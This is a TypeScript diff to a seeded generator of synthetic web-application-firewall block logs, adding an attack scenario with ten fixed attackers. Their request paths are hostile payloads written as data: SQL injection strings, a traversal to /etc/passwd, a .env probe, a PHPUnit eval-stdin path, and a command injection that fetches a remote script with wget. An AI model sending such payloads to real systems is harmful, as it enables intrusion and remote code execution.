@@ -1,6 +1,5 @@
 // Generates blocked requests as a WAF would log them. The same seed, day and row give the same entry, so nothing is stored, and
 // any page can be generated at any time. Some rows are exact copies of the previous row, as in real logs.
-import { attackFields, attackTimeMs } from "./attack-entry.ts";
 import { hashNumbers } from "./seeded-hash.ts";
 
 export const dayMs = 86_400_000;
@@ -21,7 +20,8 @@ export interface LogEntry {
 }
 
 /**
- * `Uniform`: random requests, evenly spread over the day. `Attack`: waves of attacks from a few networks, and background traffic.
+ * `Uniform`: random requests, evenly spread over the day. `Attack`: the same, but half of the requests come within one hour, from
+ * ten attackers.
  */
 export const logScenarios = ["Uniform", "Attack"] as const;
 export type LogScenario = (typeof logScenarios)[number];
@@ -82,24 +82,63 @@ const userAgents = [
 const referrers = [null, null, null, "https://www.google.com/", "https://shop.example/cart", "-"];
 const methods = ["GET", "GET", "GET", "POST", "POST", "HEAD", "PUT"];
 
+/** Each uses one method. Earlier ones send more requests; which one is first changes every five days. */
+const attackers = [
+  attacker(
+    "203.0.113.7",
+    "NL",
+    "sqlmap/1.8#stable (https://sqlmap.org)",
+    "SQL Injection 942100",
+    "/products?id=1%20UNION%20SELECT%20NULL",
+  ),
+  attacker("198.51.100.23", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/login"),
+  attacker("192.0.2.140", "CN", "Mozilla/5.0 zgrab/0.x", "Scanner Detected 913100", "/.env"),
+  attacker("2001:db8:5ca:1::1", "US", "Scrapy/2.11 (+https://scrapy.org)", "Bad Bot 1002", "/products?page=1"),
+  attacker("198.51.100.24", "RU", "python-requests/2.32.3", "Rate Limit 1015", "/wp-login.php"),
+  attacker(
+    "203.0.113.200",
+    "BR",
+    "curl/8.5.0",
+    "Remote Command Execution 932160",
+    "/cgi-bin/;wget%20http://198.51.100.7/x.sh",
+  ),
+  attacker("192.0.2.141", "CN", "Mozilla/5.0 zgrab/0.x", "Path Traversal 930110", "/../../etc/passwd"),
+  attacker(
+    "203.0.113.8",
+    "NL",
+    "sqlmap/1.8#stable (https://sqlmap.org)",
+    "SQL Injection 942190",
+    "/search?q=%27%20OR%201%3D1--",
+  ),
+  attacker("2001:db8:5ca:1::2", "US", "Scrapy/2.11 (+https://scrapy.org)", "Bad Bot 1002", "/sitemap.xml"),
+  attacker(
+    "198.51.100.77",
+    "VN",
+    "Go-http-client/1.1",
+    "PHP Injection 933150",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+  ),
+];
+
 /** The row with this number, from 0 to `rowCount - 1`. Timestamps never decrease from row to row. */
 export function makeLogEntry(logDay: LogDay, row: number): LogEntry {
   const original = originalOf(logDay, row);
-  const timestamp = new Date(timestampMsOf(logDay, original)).toISOString();
-  if (logDay.scenario === "Attack") return { timestamp, ...attackFields(logDay, original) };
   const draw = (salt: number) => hashNumbers(logDay.seed, logDay.day, original, salt);
-  const reason = pick(reasons, draw(1));
-  return {
-    timestamp,
+  const request = {
     client_ip: clientIp(draw(2)),
-    http_method: pick(methods, draw(3)),
     request_path: pick(paths, draw(4)),
-    http_status: reason === "Rate Limit 1015" ? 429 : 403,
+    user_agent: pick(userAgents, draw(7)),
+    block_reason: pick(reasons, draw(1)),
+    country: pick(countries, draw(8)),
+    ...(isInWave(logDay, shareOf(logDay, original)) ? attackerOf(logDay, draw(14)) : {}),
+  };
+  return {
+    timestamp: new Date(timestampMsOf(logDay, original)).toISOString(),
+    ...request,
+    http_method: pick(methods, draw(3)),
+    http_status: request.block_reason === "Rate Limit 1015" ? 429 : 403,
     response_size: 150 + (draw(5) % 5000),
     referrer: pick(referrers, draw(6)),
-    user_agent: pick(userAgents, draw(7)),
-    block_reason: reason,
-    country: pick(countries, draw(8)),
     cache_hit: draw(9) % 50 === 0,
   };
 }
@@ -118,9 +157,31 @@ function originalOf(logDay: LogDay, row: number): number {
 }
 
 function timestampMsOf(logDay: LogDay, row: number): number {
-  if (logDay.scenario === "Attack") return logDay.day * dayMs + attackTimeMs(logDay, row);
-  const spread = hashNumbers(logDay.seed, logDay.day, row, 12) / 2 ** 32;
-  return logDay.day * dayMs + Math.floor(((row + spread) / logDay.rowCount) * dayMs);
+  const share = shareOf(logDay, row);
+  const waveHour = 1 + (hashNumbers(logDay.seed, logDay.day, 13) % 22);
+  let hours = share * 24;
+  if (isInWave(logDay, share)) hours = waveHour + 2 * (share - 0.25);
+  else if (logDay.scenario === "Attack")
+    hours = share < 0.5 ? 4 * share * waveHour : waveHour + 1 + 4 * (share - 0.75) * (23 - waveHour);
+  return logDay.day * dayMs + Math.floor((hours / 24) * dayMs);
+}
+
+/** The share of the day's rows that come earlier, from 0 to below 1. */
+function shareOf({ seed, day, rowCount }: LogDay, row: number): number {
+  return (row + hashNumbers(seed, day, row, 12) / 2 ** 32) / rowCount;
+}
+
+function isInWave({ scenario }: LogDay, share: number): boolean {
+  return scenario === "Attack" && share >= 0.25 && share < 0.75;
+}
+
+function attackerOf({ seed, day }: LogDay, drawn: number) {
+  const place = Math.floor(attackers.length * (drawn / 2 ** 32) ** 2);
+  return pick(attackers, seed + Math.floor(day / 5) + place);
+}
+
+function attacker(client_ip: string, country: string, user_agent: string, block_reason: string, request_path: string) {
+  return { client_ip, country, user_agent, block_reason, request_path };
 }
 
 /** Uses only ranges that are reserved for documentation. */
